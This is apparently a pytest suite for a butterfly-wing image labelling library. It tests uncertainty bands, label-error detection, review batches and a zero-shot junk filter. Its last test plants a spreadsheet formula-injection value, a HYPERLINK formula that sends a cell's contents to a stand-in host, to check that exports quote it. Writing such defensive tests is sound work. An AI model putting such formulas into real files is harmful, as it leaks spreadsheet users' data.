"""The review stage's library: embedding metrics, ensemble uncertainty and bands, confident
learning, reviewed labels and exclusions, the batch to label, and the zero-shot filter."""

from __future__ import annotations

import json

import numpy as np
import pandas as pd
import pytest
from conftest import TAXA

from hybridwing.data.fetch import md5_of
from hybridwing.data.reviews import apply_reviews, read_exclusions
from hybridwing.data.tables import TableError, normalise_table, read_csv_table
from hybridwing.review.batch import review_batch
from hybridwing.review.embed import (
    beside_phash_pairs,
    cluster_scores,
    knn_accuracy,
    near_duplicates,
    taxa_metrics,
)
from hybridwing.review.embedding_table import FROZEN_PREFIX, embedding_frame
from hybridwing.review.label_issues import label_issues, label_issues_step
from hybridwing.review.settings import ZeroShotSettings
from hybridwing.review.triage import TriageSettings, assign_bands, next_batch, uncertainty
from hybridwing.review.triage_step import junk_flags
from hybridwing.review.zero_shot import zero_shot_judge


def blobs(n_per_class: int, n_classes: int, spread: float, seed: int = 0) -> tuple[np.ndarray, np.ndarray]:
    rng = np.random.default_rng(seed)
    centres = rng.normal(size=(n_classes, 16)) * 4
    labels = np.repeat(np.arange(n_classes), n_per_class)
    return centres[labels] + rng.normal(scale=spread, size=(len(labels), 16)), labels


def test_knn_leaves_out_the_same_specimen():
    """Two photographs of one specimen sit on top of each other; with only other specimens as
    neighbours the label must come from the right class, not from the twin."""
    features = np.array([[0.0, 1.0], [0.0, 1.0], [1.0, 0.05], [1.0, -0.05]])
    labels = pd.Series(["a", "b", "b", "b"])  # the twin of image 0 is labelled b
    specimens = pd.Series(["s1", "s1", "s2", "s3"])
    assert knn_accuracy(features, labels, specimens, 1, "cosine") == pytest.approx(
        0.75
    )  # image 0 and 1: neighbours b (images 2/3)
    assert knn_accuracy(features, labels, pd.Series(["s1", "s4", "s2", "s3"]), 1, "cosine") == pytest.approx(
        0.5
    )  # now twins vote
    assert knn_accuracy(features, labels, specimens, 5, "euclidean") is None, "fewer specimens than k + 1"


def test_separable_classes_score_high_and_noise_scores_low():
    features, labels = blobs(12, 4, spread=0.3)
    frame = embedding_frame(
        pd.DataFrame(
            {
                "image_id": [f"i{k}" for k in range(48)],
                "label": [f"c{k}" for k in labels],
                "specimen": [f"s{k}" for k in range(48)],
                "species": ["A" if k < 2 else "B" for k in labels],
                "is_hybrid": False,
            }
        ),
        features,
    )
    metrics = taxa_metrics(frame, seed=0)
    assert metrics["knn1_cosine_subspecies"] == metrics["knn5_euclidean_subspecies"] == 1.0
    assert metrics["kmeans_purity"] == pytest.approx(1.0) and metrics["kmeans_nmi"] == pytest.approx(1.0)
    noise = np.random.default_rng(1).normal(size=features.shape)
    shuffled = cluster_scores(noise, pd.Series(labels), seed=0)
    assert shuffled["kmeans_nmi"] < 0.4


def test_near_duplicates_pair_different_specimens_only():
    features = np.array([[1.0, 0.0], [1.0, 0.001], [1.0, 0.0], [0.0, 1.0]])
    frame = embedding_frame(
        pd.DataFrame({"image_id": ["a", "b", "c", "d"], "specimen": ["s1", "s2", "s1", "s3"]}), features
    )
    pairs = near_duplicates(frame, 0.999)
    assert set(map(tuple, pairs[["image_a", "image_b"]].to_numpy())) == {("a", "b"), ("b", "c")}
    phash = pd.DataFrame(
        {"image_a": ["c", "a"], "split_a": "train", "image_b": ["b", "d"], "split_b": "train", "hamming": [3, 9]}
    )
    beside = beside_phash_pairs(pairs, phash).set_index(["image_a", "image_b"])["hamming"]
    assert beside[("b", "c")] == 3 and beside[("a", "b")] == ""


def test_uncertainty_separates_disagreement_from_shared_doubt():
    agree = np.array([[0.9, 0.05, 0.05]] * 3)  # three members, one image, all sure of class 0
    doubt = np.array([[0.4, 0.3, 0.3]] * 3)
    split = np.array([[0.9, 0.05, 0.05], [0.05, 0.9, 0.05], [0.9, 0.05, 0.05]])
    members = np.stack([agree, doubt, split], axis=1)  # (members, images, classes)
    measures = uncertainty(members)
    assert measures["mutual_information"][0] == pytest.approx(0) and measures["mutual_information"][1] == pytest.approx(
        0
    )
    assert measures["mutual_information"][2] > 0.2 and measures["variation_ratio"].tolist() == pytest.approx(
        [0, 0, 1 / 3]
    )
    assert measures["entropy"][1] > measures["entropy"][0]
    table = measures.assign(p_label=[0.9, np.nan, 0.01], junk=[False, False, False])
    assert assign_bands(table, TriageSettings(confident=0.6)).tolist() == ["A", "C", "D"]
    table["p_label"] = [0.9, np.nan, 0.6]
    assert assign_bands(table, TriageSettings(confident=0.6)).tolist() == [
        "A",
        "C",
        "B",
    ]  # mean top probability 0.617, members split
    table["junk"] = [True, False, False]
    assert assign_bands(table, TriageSettings(confident=0.5)).tolist() == ["D", "C", "B"]


def test_a_hybrid_is_weighed_by_its_hybrid_score_not_the_hybrid_class():
    """A model trained towards a hybrid's parents puts nothing on the hybrid class: a real hybrid
    split between its parents is backed by its hybrid score (band C, offered for review), not
    ruled out (band D); a subspecies' label is still weighed by its own probability. The per-class
    table says why the hybrid class is never predicted."""
    from hybridwing.finetune.train import reports
    from hybridwing.hybrid_scores import hybrid_scores
    from hybridwing.review.triage import label_support

    classes = ["alba", "radiata", "hybrid"]
    mean = np.array([[0.52, 0.48, 0.0], [0.01, 0.99, 0.0]])
    labels = pd.Series(["hybrid", "alba"])
    scores = hybrid_scores(mean)["hybrid_score"].to_numpy()
    support = label_support(mean, labels, classes, scores)
    assert support.tolist() == pytest.approx([0.96, 0.01])
    table = uncertainty(mean[None]).assign(p_label=support, junk=False)
    assert assign_bands(table, TriageSettings()).tolist() == ["C", "D"]
    assert next_batch(table.assign(band=assign_bands(table, TriageSettings())), 5).index.tolist() == [0]

    val = pd.DataFrame({"image_id": ["h", "a"], "path": ["h.png", "a.png"], "class_index": [2, 0]})
    per_class = reports(mean, val, classes, "parents")["per_class"].set_index("class")
    assert per_class.at["hybrid", "recall"] == 0 and "never a target" in per_class.at["hybrid", "trained_towards"]
    assert per_class.at["alba", "trained_towards"] == "itself"


def test_next_batch_takes_uncertain_then_disputed():
    triage = pd.DataFrame(
        {
            "image_id": list("abcdef"),
            "band": ["A", "C", "B", "C", "D", "B"],
            "entropy": [0.1, 1.0, 0.2, 2.0, 0.1, 0.3],
            "mutual_information": [0, 0, 0.3, 0, 0, 0.5],
        }
    )
    assert next_batch(triage, 3)["image_id"].tolist() == ["d", "b", "f"]


def test_confident_learning_finds_planted_label_errors():
    features, labels = blobs(30, 3, spread=0.8, seed=2)
    given = labels.copy()
    planted = [3, 40, 77]
    given[planted] = (labels[planted] + 1) % 3
    classes = ["c0", "c1", "c2", "hybrid"]
    frame = pd.DataFrame(
        {
            "image_id": [f"i{k}" for k in range(90)],
            "label": [classes[k] for k in given],
            "specimen": [f"s{k // 2}" for k in range(90)],
        }
    )
    issues = label_issues(frame, features, classes, folds=5, seed=0)
    flagged = set(issues.loc[issues["label_issue"], "image_id"])
    assert {f"i{k}" for k in planted} <= flagged and len(flagged) <= 6
    worst = issues.head(3)
    assert set(worst["image_id"]) == {f"i{k}" for k in planted}
    assert worst["suggested"].tolist() == [classes[labels[int(i[1:])]] for i in worst["image_id"]]
    with pytest.raises(ValueError, match="not among the model's classes"):
        label_issues(frame.assign(label="c9"), features, classes, folds=5, seed=0)


def metadata_rows(ids: list[str], source: str, labels: list[str]) -> pd.DataFrame:
    return pd.DataFrame(
        {
            "image_id": ids,
            "source": source,
            "camid": ids,
            "filename": [f"{i}.jpg" for i in ids],
            "file_url": "",
            "md5": "",
            "species": "erato",
            "subspecies": labels,
            "is_hybrid": False,
            "parent_1": "",
            "parent_2": "",
            "ssp_indicator": "",
            "path": "",
        }
    )


def test_reviewed_labels_replace_move_and_add_and_exclusions_drop(tmp_path):
    metadata = pd.concat(
        [
            metadata_rows(["t1", "t2"], "train", ["cyrbia", "cyrbia"]),
            metadata_rows(["d1", "d2"], "dev", ["notabilis", "lativitta"]),
            metadata_rows(["t2", "d1", "n1"], "extra_labels", ["lativitta", "notabilis", "cyrbia"]),
        ],
        ignore_index=True,
    )
    reviewed = apply_reviews(metadata, None)
    by_id = reviewed.set_index("image_id")
    assert sorted(by_id.index) == ["d1", "d2", "n1", "t1", "t2"]
    assert by_id.loc["t2", "subspecies"] == "lativitta" and by_id.loc["t2", "source"] == "train"  # corrected
    assert by_id.loc["d1", "source"] == "train" and by_id.loc["n1", "source"] == "train"  # moved out of dev, and added
    assert by_id.loc["d2", "source"] == "dev"

    exclude = tmp_path / "exclude.csv"
    exclude.write_text("image_id,reason\nt1,a ruler\nd2,blurred\n")
    kept = apply_reviews(metadata, read_exclusions(exclude), str(exclude))
    assert sorted(kept["image_id"]) == ["d1", "n1", "t2"]
    exclude.write_text("image_id,reason\nt1,a ruler\nt9,typo\n")
    with pytest.raises(TableError, match=r"line 3, column 'image_id': 't9' is in no table"):
        apply_reviews(metadata, read_exclusions(exclude), str(exclude))
    exclude.write_text("id\nt1\n")
    with pytest.raises(TableError, match="no image_id column"):
        read_exclusions(exclude)


def test_the_batch_to_label_is_a_training_table_once_filled(tmp_path, taxa):
    triage = pd.DataFrame(
        {
            "image_id": ["a", "b", "c"],
            "filename": ["a.jpg", "b.jpg", "c.jpg"],
            "label": ["", "lativitta", "hybrid"],
            "predicted": ["cyrbia", "notabilis", "lativitta"],
            "p_top": [0.5, 0.6, 0.7],
            "band": ["C", "C", "B"],
            "entropy": [1.5, 1.2, 0.4],
            "mutual_information": [0.0, 0.0, 0.3],
        }
    )
    photos = []
    for name in "abc":  # as fetch stores a converted copy: other bytes than the original the metadata's md5 is of
        photo = tmp_path / f"{name}.rgb.png"
        photo.write_bytes(name.encode())
        photos.append(str(photo))
    metadata = pd.DataFrame(
        {
            "image_id": ["a", "b", "c"],
            "camid": ["CAM1", "CAM2", "CAM3"],
            "md5": ["0" * 32, "1" * 32, "2" * 32],
            "path": photos,
            "parent_1": ["", "", "lativitta"],
            "parent_2": ["", "", "notabilis"],
        }
    )
    batch = review_batch(triage, metadata, taxa, count=10)
    assert batch["filename"].tolist() == ["a.jpg", "b.jpg", "c.jpg"] and batch["band"].tolist() == ["C", "C", "B"]
    assert batch["file_url"].str.startswith("file://").all()
    assert batch["md5"].tolist() == [md5_of(name.encode()) for name in "abc"], "of the stored file, not the original"
    path = tmp_path / "batch.csv"
    batch.to_csv(path, index=False)
    table = normalise_table(read_csv_table(path.read_bytes(), str(path)), "extra_labels", str(path), taxa)
    assert table["subspecies"].tolist() == [
        "cyrbia",
        "lativitta",
        "",
    ]  # unlabelled: the prediction; labelled: its label
    assert table["is_hybrid"].tolist() == [False, False, True] and table.loc[2, ["parent_1", "parent_2"]].tolist() == [
        "lativitta",
        "notabilis",
    ]


def test_zero_shot_needs_a_pretrained_text_tower(bioclip_folder, heliconius):
    judge, reason = zero_shot_judge("hybridwing-vit-tiny")
    assert judge is None and "no pretrained text tower" in reason
    photographs = pd.DataFrame(
        {"image_id": ["x", "y"], "path": sorted(str(p) for p in (heliconius / "images").glob("*.jpg"))[:2]}
    )
    settings = ZeroShotSettings(
        prompts=("a photo of a butterfly wing", "a photo of a ruler", "a photo of an empty tray"), threshold=0.5
    )
    skipped = junk_flags(judge, reason, photographs, settings)
    assert not skipped["junk"].any() and skipped["reason"].str.contains("no pretrained text tower").all()

    judge, reason = zero_shot_judge(str(bioclip_folder))
    assert judge is not None and reason == ""
    probabilities = judge(photographs["path"].tolist(), list(settings.prompts))
    assert probabilities.shape == (2, 3) and np.allclose(probabilities.sum(1), 1)
    flags = junk_flags(judge, reason, photographs, settings)
    assert flags["p_junk"].tolist() == pytest.approx((1 - probabilities[:, 0]).round(4).tolist(), abs=1e-4)
    assert flags["junk"].tolist() == (1 - probabilities[:, 0] >= 0.5).tolist()
    assert set(flags["likeliest_junk"]) <= set(settings.prompts[1:])


def test_label_issues_use_the_frozen_pretrained_embedding_when_there_is_one(tmp_path, caplog):
    """The fine-tuned embedding (e columns) is noise here; the frozen one (p columns) separates the
    classes: the planted errors are found only because the step probes the frozen one."""
    features, labels = blobs(30, 3, spread=0.8, seed=2)
    given = labels.copy()
    given[[3, 40, 77]] = (labels[[3, 40, 77]] + 1) % 3
    classes = ["c0", "c1", "c2", "hybrid"]
    rows = pd.DataFrame(
        {
            "image_id": [f"i{k}" for k in range(90)],
            "label": [classes[k] for k in given],
            "specimen": [f"s{k}" for k in range(90)],
            "path": "",
        }
    )
    noise = np.random.default_rng(0).normal(size=features.shape)
    embedding_frame(embedding_frame(rows, noise), features, FROZEN_PREFIX).to_parquet(tmp_path / "train.parquet")
    (tmp_path / "model").mkdir()
    (tmp_path / "model" / "classes.json").write_text(json.dumps(classes))
    (tmp_path / "model" / "config.json").write_text("{}")
    pd.DataFrame({"path": "", "class": "c0", "source_image": ["i0"], "mean_loss": [1.0], "flagged": [False]}).to_csv(
        tmp_path / "losses.csv", index=False
    )
    with caplog.at_level("INFO"):
        label_issues_step(
            str(tmp_path / "train.parquet"),
            str(tmp_path / "model"),
            str(tmp_path / "losses.csv"),
            str(tmp_path / "issues.csv"),
            str(tmp_path / "sheet.png"),
            {"label_issues": {"folds": 5}, "seed": 0, "sheet_images": 0},
        )
    assert "a probe on the frozen pretrained embedding" in caplog.text
    issues = pd.read_csv(tmp_path / "issues.csv")
    assert set(issues.head(3)["image_id"]) == {"i3", "i40", "i77"}


def test_review_never_overwrites_a_curators_file_and_quotes_formulas(tmp_path, monkeypatch, capsys):
    """An existing --out is refused and left as it is; without --out the next free
    name is taken; a CAMID that a spreadsheet would run is written as text."""
    from hybridwing.cli import main

    results = tmp_path / "results"
    (results / "review" / "dev").mkdir(parents=True)
    (results / "data").mkdir()
    pd.DataFrame(
        {
            "image_id": ["a", "b"],
            "filename": ["a.jpg", "b.jpg"],
            "label": ["", "lativitta"],
            "predicted": ["cyrbia", "notabilis"],
            "p_top": [0.5, 0.6],
            "band": ["C", "C"],
            "entropy": [1.5, 1.2],
            "mutual_information": [0.0, 0.0],
        }
    ).to_csv(results / "review" / "dev" / "triage.csv", index=False)
    metadata = metadata_rows(["a", "b"], "dev", ["cyrbia", "lativitta"])
    metadata.loc[0, "camid"] = '=HYPERLINK("http://x/?"&B2,"open")'
    metadata.assign(path=["a.jpg", "b.jpg"]).to_csv(results / "data" / "metadata.csv", index=False)
    for name in ("a.jpg", "b.jpg"):
        (tmp_path / name).write_bytes(name.encode())  # the stored photographs, relative to the run's folder
    arguments = ["review", "dev", "--results", str(results), "--taxa", str(TAXA)]

    curated = tmp_path / "labels.csv"
    curated.write_text("CAMID,filename\nmy,work\n")
    assert main([*arguments, "--out", str(curated)]) == 1
    assert "exists already" in capsys.readouterr().err and curated.read_text() == "CAMID,filename\nmy,work\n"

    monkeypatch.chdir(tmp_path)
    assert main(arguments) == 0 and main(arguments) == 0
    first, second = tmp_path / "review_dev.csv", tmp_path / "review_dev_2.csv"
    assert first.is_file() and second.is_file() and first.read_bytes() == second.read_bytes()
    written = pd.read_csv(first, dtype=str, keep_default_na=False)
    assert written["CAMID"].tolist() == ['\'=HYPERLINK("http://x/?"&B2,"open")', "b"]
